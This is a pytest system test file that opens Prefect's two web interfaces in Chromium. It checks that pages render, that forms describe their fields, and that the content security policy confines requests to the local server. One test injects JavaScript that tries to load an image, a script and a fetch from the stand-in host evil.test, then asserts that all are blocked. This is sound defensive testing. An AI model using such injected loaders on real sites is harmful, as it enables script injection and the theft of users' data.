"""Prefect's pages in Chromium: requests, security policy and forms.

`make test-system` runs it; what is missing fails it. Both interfaces are opened, page by page.
"""

import base64
import json
import urllib.parse
import urllib.request
from collections.abc import Iterator

import pytest

from tests.project_copy import copy_project
from tests.system.browser import open_browser, requested_urls, wait_until
from tests.system.served import RunningServer, run_server

pytestmark = pytest.mark.system

BASE = {"v1": "", "v2": "/v2"}
PAGES = {  # path -> what it shows
    "dashboard": "Dashboard",
    "runs": "reliabilit",
    "flows": "reliabilities",
    "deployments": "refresh",
    "work-pools": "Work Pools",
    "blocks/catalog": "AWS",
    "variables": "Variables",
    "automations": "Automations",
    "automations/create": "Automations",
    "events": "Event",
    "artifacts": "Artifacts",
    "concurrency-limits": "Concurrency",
    "settings": "Settings",
}


@pytest.fixture(scope="module")
def served(tmp_path_factory) -> Iterator[RunningServer]:
    project = tmp_path_factory.mktemp("project")
    copy_project(project)
    with run_server(project) as running:
        yield running


@pytest.fixture(scope="module")
def run_id(served) -> str:
    """Identifier of a run that has ended; its page shows a graph."""
    secret = base64.b64encode(served.secret.encode()).decode()
    request = urllib.request.Request(
        f"{served.address}/api/deployments/{served.find_deployment_id('reliability')}/create_flow_run",
        data=json.dumps({"parameters": {"datasets": ["nowhere"]}}).encode(),
        headers={"content-type": "application/json", "authorization": f"Basic {secret}"},
    )
    with urllib.request.urlopen(request, timeout=10) as answer:
        new_run = json.load(answer)["id"]
    wait_until(lambda: {run["id"]: run["state_type"] for run in served.list_runs("reliability")}[new_run] == "FAILED")
    return new_run


class Visitor:
    """A new browser, in one of the two interfaces."""

    def __init__(self, driver, served: RunningServer, interface: str) -> None:
        self.driver = driver
        self.served = served
        self.base = BASE[interface]
        driver.get(f"{served.address}/ui-settings")
        driver.add_cookie({"name": "prefect_ui_version", "value": interface})
        driver.get_log("performance")  # requests of Chromium at its start
        driver.get_log("browser")

    @property
    def text(self) -> str:
        return self.driver.find_element("tag name", "body").text

    def open(self, path: str, shown: str) -> None:
        self.driver.get(f"{self.served.address}{self.base}/{path}")
        wait_until(lambda: shown in self.text)
        self.driver.execute_async_script(
            "const done = arguments[0]; requestIdleCallback(() => setTimeout(done, 1000), {timeout: 10000})"
        )

    def enter(self) -> None:
        field = self.driver.find_element("css selector", "input[type=password]")
        field.send_keys(self.served.secret + "\ue007")  # Enter
        wait_until(lambda: "Dashboard" in self.text)

    def hosts(self) -> set[str]:
        return {urllib.parse.urlsplit(url).netloc for url in requested_urls(self.driver) if url.startswith("http")}


@pytest.fixture(params=BASE)
def visitor(request, served, tmp_path) -> Iterator[Visitor]:
    with open_browser(tmp_path / "browser") as driver:
        yield Visitor(driver, served, request.param)
        driver.save_screenshot(tmp_path / "last.png")


def test_no_page_contacts_other_servers_and_forms_describe_their_fields(visitor, served, run_id):
    visitor.open("login", "Login")
    visitor.enter()
    visitor.open(f"runs/flow-run/{run_id}", "reliabilities/nowhere")
    wait_until(lambda: visitor.driver.find_elements("css selector", "canvas"))  # its graph, which needs 'unsafe-eval'
    for path, shown in PAGES.items():
        visitor.open(path, shown)
    for name, description in (("reliability", "sets in params.yaml"), ("refresh", "Stages of dvc.yaml")):
        visitor.open(f"deployments/deployment/{served.find_deployment_id(name)}/run", description)
    assert visitor.hosts() == {urllib.parse.urlsplit(served.address).netloc}


def test_a_page_can_neither_send_nor_load_from_other_servers(visitor):
    visitor.open("login", "Login")
    script = """
        const done = arguments[0];
        const image = new Image();
        image.onerror = () => {
            const script = document.createElement("script");
            script.src = "http://evil.test/c.js";
            script.onerror = () => fetch("http://evil.test/d").catch(() => done("blocked"));
            document.head.append(script);
        };
        image.src = "http://evil.test/a.png";
    """
    assert visitor.driver.execute_async_script(script) == "blocked"
    assert not [url for url in requested_urls(visitor.driver) if "evil.test" in url]
    inline = "const script = document.createElement('script'); script.text = 'window.ran = 1';"
    assert visitor.driver.execute_script(f"{inline} document.head.append(script); return window.ran") is None
